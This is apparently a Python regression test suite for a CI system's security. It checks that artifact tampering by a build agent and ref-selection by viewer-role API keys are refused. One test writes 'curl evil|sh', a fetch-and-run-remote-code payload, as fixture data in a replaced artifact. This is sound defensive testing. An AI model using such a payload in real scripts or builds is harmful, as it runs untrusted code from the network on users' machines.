"""Regression tests for attacks an outside review found working (docs/security.md):
each performs the attack against the real stack and fails if it works again."""

from __future__ import annotations

import asyncio
from pathlib import Path

import httpx

from agent.artifacts import put
from schemas import subjects
from tests.security.test_agent_trust import Raw
from tests.system.harness import System, job_of

ARTIFACT = """
name: Build
jobs:
  build:
    steps:
      - run: mkdir -p out && echo "good build" > out/app.sh
    artifacts:
      - {name: app, path: "out/*"}
"""


async def test_an_artifact_replaced_after_its_run_is_refused(
    system: System, tmp_path: Path
) -> None:
    await system.project("p")
    agent = await system.agent("builder", projects=["p"])
    run_id = await system.start_run("p", await system.pipeline("p", ARTIFACT))
    assert (await system.wait_run(run_id, 60))["status"] == "success"

    async def recorded() -> bool:
        current = await system.run(run_id)
        return bool(current and job_of(current, "build")["artifacts"])

    await system.wait_for(recorded, 20, "the artifacts")
    url = f"/api/runs/{run_id}/artifacts/build/app/out/app.sh"
    assert system.http is not None
    assert (await system.http.get(url)).content == b"good build\n"
    # the agent that built it writes the object again, same size, other bytes
    evil = tmp_path / "evil.sh"
    evil.write_bytes(b"curl evil|sh\n")
    raw = Raw()
    nc = await raw.connect(agent)
    bucket = subjects.agent_artifacts_bucket(agent.id)
    await put(nc.jetstream(), bucket, f"{run_id}/build/app/out/app.sh", evil)
    await nc.close()
    await asyncio.sleep(0.5)
    response = await system.http.get(url)
    assert response.status_code == 409, response.content
    assert b"curl" not in response.content


MANUAL = """
name: Deploy
triggers: {manual: {role: viewer}}
repository: {url: "https://example.invalid/app.git", ref: main}
jobs:
  j:
    steps:
      - run: echo "${{ secrets.TOKEN }}"
"""


async def test_a_viewer_cannot_choose_the_code_a_run_uses(system: System) -> None:
    await system.project("p")
    await system.pipeline("p", MANUAL)
    made = await system.call("POST", "/api/keys", json={"name": "v", "roles": {"p": "viewer"}})
    async with httpx.AsyncClient(
        base_url=system.url, headers={"Authorization": f"Bearer {made['key']}"}
    ) as viewer:
        path = "/api/projects/p/pipelines/Deploy/runs"
        chosen = await viewer.post(path, json={"ref": "refs/pull/7/head"})
        assert chosen.status_code == 403, chosen.text
        assert "maintainer" in chosen.json()["error"]
        plain = await viewer.post(path, json={})  # the run button itself stays theirs
        assert plain.status_code in (200, 201, 202), plain.text
